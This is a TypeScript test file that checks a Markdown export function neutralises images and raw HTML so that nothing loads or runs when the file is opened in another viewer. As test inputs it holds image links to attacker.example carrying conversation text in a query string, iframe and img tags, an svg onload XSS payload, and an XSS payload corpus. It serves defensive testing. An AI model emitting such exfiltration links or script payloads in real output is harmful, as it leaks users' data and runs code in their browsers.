import { describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import { Marked } from 'marked';
import { inertMarkdown } from '../../../../packages/element/src/markdown/inert-markdown.js';

// What another viewer does with the file: a full Markdown renderer that passes raw HTML through (as editors'
// previews and many wikis do). marked's own renderer is that viewer here.
const viewer = new Marked({ gfm: true });
const render = (markdown: string) => viewer.parse(markdown, { async: false }) as string;
/** Tags a viewer would create from the Markdown itself: nothing that loads or runs. */
const MARKDOWN_TAGS = new Set(['p', 'a', 'em', 'strong', 'del', 'code', 'pre', 'ul', 'ol', 'li', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'blockquote', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'hr', 'br', 'input']);
const tagsIn = (html: string) => [...html.matchAll(/<\/?([a-zA-Z][\w-]*)/g)].map((m) => m[1]!.toLowerCase());

const corpus = (JSON.parse(readFileSync(new URL('../../../fixtures/xss-corpus.json', import.meta.url), 'utf8')) as { payloads: { id: string; payload: string }[] }).payloads;

describe('inertMarkdown (the demo\'s Markdown export)', () => {
  it('turns images into text that says where they point; nothing is loaded when the file is opened elsewhere', () => {
    const answer = 'Here is a chart: ![chart of *tides*](https://attacker.example/p.png?q=the%20conversation "t")\n\n![ref][r]\n\n[r]: https://attacker.example/r.png';
    const inert = inertMarkdown(answer);
    expect(inert).toContain('image: chart of \\*tides\\* (`https://attacker.example/p.png?q=the%20conversation`)');
    expect(inert).toContain('image: ref (`https://attacker.example/r.png`)');
    const html = render(inert);
    expect(html).not.toContain('<img');
    expect(html).toContain('image: chart of *tides* (<code>https://attacker.example/p.png?q=the%20conversation</code>)');
  });

  it('shows raw HTML as text; keeps code, links and the rest as written', () => {
    const answer = [
      'Intro with <img src="https://attacker.example/x.png"> inline and <b>bold</b>.',
      '',
      '<div><iframe src="https://attacker.example/"></iframe></div>',
      '',
      '- item',
      '  <svg onload="alert(1)"><image href="https://attacker.example/s.png"/></svg>',
      '',
      '> <video poster="https://attacker.example/v.png"></video>',
      '',
      '| a | b |', '|---|---|', '| <img src=x> | `<kbd>` |',
      '',
      '```html', '<img src="kept-as-code.png"> ![kept](in-code.png)', '```',
      '',
      'A [link](https://example.com/docs) and `<span>` and **Markdown**.',
    ].join('\n');
    const inert = inertMarkdown(answer);
    const html = render(inert);
    expect(tagsIn(html).filter((t) => !MARKDOWN_TAGS.has(t))).toEqual([]);
    expect(html).toContain('Intro with &lt;img src=');
    // Code is untouched, so it still reads as code.
    expect(inert).toContain('```html\n<img src="kept-as-code.png"> ![kept](in-code.png)\n```');
    expect(inert).toContain('`<kbd>`');
    expect(inert).toContain('A [link](https://example.com/docs) and `<span>` and **Markdown**.');
    expect(inertMarkdown('Plain **text** with [a link](https://x.example).')).toBe('Plain **text** with [a link](https://x.example).');
  });

  it.each(corpus.map((p) => [p.id, p.payload]))('%s: nothing in the export renders as an image or HTML in another viewer', (_id, payload) => {
    const html = render(inertMarkdown(payload));
    expect(tagsIn(html).filter((t) => !MARKDOWN_TAGS.has(t))).toEqual([]);
  });
});
